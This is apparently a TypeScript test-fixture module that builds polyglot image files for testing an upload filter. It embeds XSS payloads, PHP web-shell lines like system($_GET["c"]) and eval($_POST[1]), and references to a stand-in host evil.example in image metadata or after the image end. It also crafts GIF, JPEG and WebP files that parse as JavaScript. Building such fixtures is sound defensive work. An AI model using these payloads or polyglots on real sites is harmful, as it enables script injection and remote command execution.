import { crc32 } from 'node:zlib'

import type { ImageType } from '#shared/domain/images/image-types.ts'

import { absurdDimensions, box, goodPhoto, jpegSegment, pngChunk } from './images.ts'

/** An image that is something else too, and the name of that. */
export type Polyglot = { name: string; type: ImageType; bytes: Buffer; second: string }

const latin1 = (text: string): Buffer => Buffer.from(text, 'latin1')
const uint16LittleEndian = (value: number): Buffer => Buffer.from([value & 0xff, value >>> 8])
const uint32LittleEndian = (value: number): Buffer =>
  Buffer.concat([uint16LittleEndian(value & 0xffff), uint16LittleEndian(value >>> 16)])

/** A ZIP archive of one stored file, in its parts. */
export const zipParts = (name: string, content: string) => {
  const [file, data] = [latin1(name), latin1(content)]
  const time = Buffer.from([0, 0, 0x21, 0x5b])
  const sizes = [crc32(data), data.length, data.length].map(uint32LittleEndian)
  const common = [uint16LittleEndian(20), Buffer.alloc(4), time, ...sizes, uint16LittleEndian(file.length)]
  const local = Buffer.concat([latin1('PK\x03\x04'), ...common, Buffer.alloc(2), file, data])
  const entry = Buffer.concat([latin1('PK\x01\x02\x14\x03'), ...common, Buffer.alloc(16), file])
  const counts = [1, 1].map(uint16LittleEndian)
  const places = [entry.length, local.length].map(uint32LittleEndian)
  const end = Buffer.concat([latin1('PK\x05\x06\0\0\0\0'), ...counts, ...places, Buffer.alloc(2)])
  return { local, entry, end, whole: Buffer.concat([local, entry, end]) }
}

/** The same image with something in its metadata. */
export const withMetadata = (type: ImageType, image: Buffer, content: Buffer): Buffer => {
  const insert = (at: number, part: Buffer) => Buffer.concat([image.subarray(0, at), part, image.subarray(at)])
  switch (type) {
    case 'image/jpeg':
      return insert(2, jpegSegment(0xfe, content))
    case 'image/png':
      return insert(33, pngChunk('tEXt', Buffer.concat([latin1('Comment\0'), content])))
    case 'image/gif': {
      const [first, rest] = [content.subarray(0, 255), content.subarray(255)]
      const blocks = [first, rest].filter(({ length }) => length > 0)
      const extension = [latin1('!\xfe'), ...blocks.flatMap((block) => [Buffer.from([block.length]), block])]
      const colours = ((image[10] ?? 0) & 0x80) === 0 ? 0 : 3 * 2 ** (((image[10] ?? 0) & 7) + 1)
      return insert(13 + colours, Buffer.concat([...extension, Buffer.alloc(1)]))
    }
    case 'image/webp': {
      const padded = content.length % 2 === 0 ? content : Buffer.concat([content, Buffer.alloc(1)])
      const file = Buffer.concat([image, latin1('note'), uint32LittleEndian(content.length), padded])
      file.writeUInt32LE(file.length - 8, 4)
      return file
    }
    case 'image/avif':
      return Buffer.concat([image, box('free', content)])
  }
}

const hidden: [name: string, second: string, content: string][] = [
  ['a script element', 'an HTML page', 'x<script>alert(document.domain)</script>'],
  ['a script element of its own spelling', 'an HTML page', '<ScRiPt\nsrc=//evil.example/x.js></script>'],
  ['a page', 'an HTML page', '<!DOCTYPE  html><title>hello</title>'],
  ['a page without a document type', 'an HTML page', '<html><body>Please log in</body></html>'],
  ['a handler', 'an HTML page', '<img src=x onerror=alert(1)>'],
  ['a handler behind a slash', 'an HTML page', '<svg/onload=alert(1)>'],
  ['a handler behind other attributes', 'an HTML page', '<details open class="a b"ontoggle = "alert(1)">'],
  ['a frame', 'an HTML page', '<iframe src="https://evil.example/">'],
  ['another document', 'an HTML page', '<object data="data:text/html;base64,PHNjcmlwdD4=">'],
  ['another document behind other attributes', 'an HTML page', '<embed type="text/html" src="//evil.example/">'],
  ['a redirection', 'an HTML page', '<meta http-equiv="refresh" content="0;url=https://evil.example/">'],
  ['a link that runs', 'an HTML page', '<a href=" javascript:alert(1)">'],
  ['PHP', 'a PHP script', '<?php system($_GET["c"]); ?>'],
  ['PHP over lines', 'a PHP script', '<?PHP\neval($_POST[1]);'],
  ['the short tag of PHP', 'a PHP script', '<?=`$_GET[0]`?>'],
  ['a PHP archive', 'a PHP script', 'x __HALT_COMPILER(); ?>'],
  ['a PDF header', 'a PDF', '%PDF-1.7\n1 0 obj\n<< >>\nendobj\ntrailer << >>'],
  ['a RAR archive', 'a RAR archive', 'Rar!\x1a\x07\x01\0'],
  ['an old RAR archive', 'a RAR archive', 'Rar!\x1a\x07\0'],
  ['a 7-Zip archive', 'a 7-Zip archive', '7z\xbc\xaf\x27\x1c\0\x04'],
  ['a ZIP archive', 'a ZIP archive', zipParts('META-INF/MANIFEST.MF', 'Main-Class: A').whole.toString('latin1')],
  ['the beginning of a ZIP archive', 'a ZIP archive', zipParts('a.txt', 'a').local.toString('latin1')],
  ['an entry of a ZIP archive', 'a ZIP archive', zipParts('a.txt', 'a').entry.toString('latin1')],
  ['the end of a ZIP archive', 'a ZIP archive', zipParts('a.txt', 'a').end.toString('latin1')],
]

/** Each thing to hide, in the metadata of each type and behind its end. */
export const hiddenFormats = async (types: readonly ImageType[]): Promise<Polyglot[]> => {
  const polyglots: Polyglot[] = []
  for (const type of types) {
    const photo = await goodPhoto(type)
    for (const [name, second, text] of hidden) {
      const content = latin1(text)
      polyglots.push({ name: `${name} inside`, type, bytes: withMetadata(type, photo, content), second })
      polyglots.push({ name: `${name} behind`, type, bytes: Buffer.concat([photo, content]), second })
    }
  }
  return polyglots
}

/** A JPEG whose first segment has as its length the two characters that begin a comment in a script. */
const scriptJpeg = (comment: '/*' | '//', close: string): Buffer => {
  const photo = absurdDimensions('image/jpeg', 64, 48)
  const segment = Buffer.alloc(latin1(comment).readUInt16BE() + 2)
  segment.write(`\xff\xe0${comment}JFIF\0`, 'latin1')
  segment.write(close, segment.length - close.length, 'latin1')
  return Buffer.concat([photo.subarray(0, 2), segment, photo.subarray(20)])
}

const scriptGif = (text: string): Buffer => latin1(`GIF89a${text}`)

/** Its length reads as the beginning of a comment; the file is a little longer, which is allowed. */
const scriptWebp = async (): Promise<Buffer> => {
  const note = latin1(`${'\0'.repeat(11_000)}*/=1;alert(1)//`)
  const file = withMetadata('image/webp', await goodPhoto('image/webp'), note)
  file.writeUInt32LE(latin1('/*').readUInt16LE(), 4)
  return file
}

/** A tar archive whose first file is named like the beginning of an image. */
const tarGif = (): Buffer => {
  const file = Buffer.alloc(1024)
  absurdDimensions('image/gif', 9, 9).copy(file)
  file.write('ustar\x0000', 257, 'latin1')
  return file
}

/** Images that read as scripts from their first byte on, and one that is the beginning of an archive. */
export const leadingFormats = async (): Promise<Polyglot[]> => {
  const script = { second: 'a script' }
  const gif = { ...script, type: 'image/gif' } as const
  const jpeg = { ...script, type: 'image/jpeg' } as const
  const nothing = '\0\0\0\0\0\0'
  return [
    { ...gif, name: 'a comment', bytes: scriptGif(`/*\x01\0${nothing};*/=1;alert(document.domain)`) },
    { ...gif, name: 'a comment behind a sign', bytes: scriptGif(`=/*\0${nothing};*/1;alert(1)`) },
    { ...gif, name: 'a comment of one line', bytes: scriptGif(`//\x01\0${nothing};\n=1;alert(document.domain)`) },
    { ...gif, name: 'a script and nothing else', bytes: scriptGif('=1;alert(document.domain);') },
    { ...jpeg, name: 'a comment', bytes: scriptJpeg('/*', '*/=alert("XSS");/*') },
    { ...jpeg, name: 'a comment of one line', bytes: scriptJpeg('//', '\n=alert("XSS")//') },
    { ...script, name: 'a comment', type: 'image/webp', bytes: await scriptWebp() },
    { name: 'an archive', type: 'image/gif', bytes: tarGif(), second: 'a tar archive' },
  ]
}
